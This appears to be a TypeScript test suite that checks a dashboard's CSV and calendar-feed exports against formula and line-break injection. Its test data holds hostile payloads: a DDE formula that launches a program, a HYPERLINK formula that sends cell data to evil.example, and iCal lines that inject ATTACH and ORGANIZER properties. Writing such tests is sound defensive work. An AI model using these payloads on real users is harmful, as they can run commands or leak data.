import { parse } from 'csv-parse/sync'
import ICAL from 'ical.js'
import { beforeAll, expect } from 'vitest'
import { appointments } from '../../lib/dashboard/schema/appointments.ts'
import { calls } from '../../lib/dashboard/schema/calls.ts'
import { leads } from '../../lib/dashboard/schema/leads.ts'
import { within } from '../e2e/account/rows.ts'
import { check } from '../support/check.ts'
import { createAdminClient } from './support/member.ts'

/* Attack: callers and customers put text into files that the company opens in spreadsheets and calendars. */

const ORGANIZATION_ID = 'org_exports'

/** Cell values that a spreadsheet would evaluate or fetch, or that end a cell or a line. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '"=1+1',
  '",=1+1,"',
  'x\n=1+1',
  'x"\r\n"=1+1',
  ';=1+1',
]

const PHONE_NUMBERS = ['+442079460958', '+12125550142']

const STARTS_AT = new Date(Date.now() + 24 * 3_600_000)

let fetchAsAdmin: Awaited<ReturnType<typeof createAdminClient>>

beforeAll(async () => {
  fetchAsAdmin = await createAdminClient(ORGANIZATION_ID)
  const organizationColumns = { organizationId: ORGANIZATION_ID }
  await within(organizationColumns, async ({ db }) => {
    await db.delete(leads)
    await db.delete(calls)
    await db.delete(appointments)
    await db.insert(calls).values(
      FORMULAS.map((text, index) => ({
        ...organizationColumns,
        startedAt: STARTS_AT,
        outcome: 'message' as const,
        callerName: text,
        callerPhone: PHONE_NUMBERS[index % PHONE_NUMBERS.length],
        callerWords: text,
        summary: text,
        rule: text,
      })),
    )
    await db.insert(appointments).values(
      INJECTED_TEXTS.map((text) => ({
        ...organizationColumns,
        startsAt: STARTS_AT,
        endsAt: new Date(STARTS_AT.getTime() + 2 * 3_600_000),
        customer: text,
        job: text,
        address: text,
        technician: text,
      })),
    )
  })
})

const isFormula = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)

async function fetchCsvRows(path: string): Promise<string[][]> {
  const response = await fetchAsAdmin(path)
  expect(response.status).toBe(200)
  return parse(await response.text(), { bom: true })
}

check(
  {
    what: 'Exports: leads and calls as CSV',
    tried: `${FORMULAS.length} formulas and quotes in every text, read by a parser`,
    expected: 'no cell starts with a formula, no text is lost, and phone numbers stay intact',
  },
  async () => {
    for (const text of FORMULAS) {
      const lead = { name: text, problem: text, address: text, system: text, safety: text, phone: PHONE_NUMBERS[0] }
      const response = await fetchAsAdmin('/api/dashboard/leads', { method: 'POST', body: JSON.stringify(lead) })
      expect(response.status).toBe(201)
    }
    const first = await fetchCsvRows('/api/dashboard/leads/export')
    const rows = [...first, ...(await fetchCsvRows('/api/dashboard/calls/export'))]
    const cells = rows.flat()
    expect(cells.filter(isFormula)).toEqual([])
    const texts = new Set(cells.map((cell) => cell.replace(/^'/, '')))
    expect(FORMULAS.map((text) => text.trim()).filter((text) => !texts.has(text))).toEqual([])
    expect(cells).toEqual(expect.arrayContaining(['011 44 20 7946 0958', '(212) 555-0142']))
    return `${rows.length} rows, ${cells.length} cells, no formula`
  },
)

/** Texts that would end a line or a component in an iCalendar file. */
const INJECTED_TEXTS = [
  'x\r\nX-EVIL:1',
  'x\nATTACH:https://evil.example/',
  'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY',
  'x\rORGANIZER:mailto:evil@evil.example',
  'x\u0085X-EVIL:1',
  'x\u2028X-EVIL:1',
  'x;X-EVIL=1:y',
  'x\\nX-EVIL:1',
  'x\\',
  `${'x'.repeat(62)}\r\n X-EVIL:1`,
]

const EXPECTED_PROPERTIES =
  'created description dtend dtstamp dtstart last-modified location sequence status summary transp uid url'.split(' ')

check(
  {
    what: 'Exports: calendar feed',
    tried: `${INJECTED_TEXTS.length} line breaks in the feed name and in every text of a visit, read by a parser`,
    expected: 'contains one event per visit and no injected property or component',
  },
  async () => {
    const problems: string[] = []
    for (const name of INJECTED_TEXTS) {
      const response = await fetchAsAdmin('/api/dashboard/feeds', { method: 'POST', body: JSON.stringify({ name }) })
      expect(response.status).toBe(201)
      const { address, feed } = (await response.json()) as { address: string; feed: { id: string } }
      const text = await (await fetch(address)).text()
      await fetchAsAdmin(`/api/dashboard/feeds/${feed.id}`, { method: 'DELETE' })
      try {
        const calendar = new ICAL.Component(ICAL.parse(text) as unknown[])
        const events = calendar.getAllSubcomponents()
        if (events.length !== INJECTED_TEXTS.length) problems.push(`${events.length} entries`)
        const names = new Set(events.flatMap((event) => event.getAllProperties().map((property) => property.name)))
        problems.push(...[...names].filter((propertyName) => !EXPECTED_PROPERTIES.includes(propertyName)))
        problems.push(...events.flatMap((event) => event.getAllSubcomponents().map((component) => component.name)))
        problems.push(
          ...calendar
            .getAllProperties()
            .map((property) => property.name)
            .filter((propertyName) => /evil|attach|organizer/.test(propertyName)),
        )
      } catch (error) {
        problems.push(error instanceof Error ? error.message : 'unreadable')
      }
    }
    expect([...new Set(problems)]).toEqual([])
    return `${INJECTED_TEXTS.length} entries, ${EXPECTED_PROPERTIES.length} properties`
  },
)
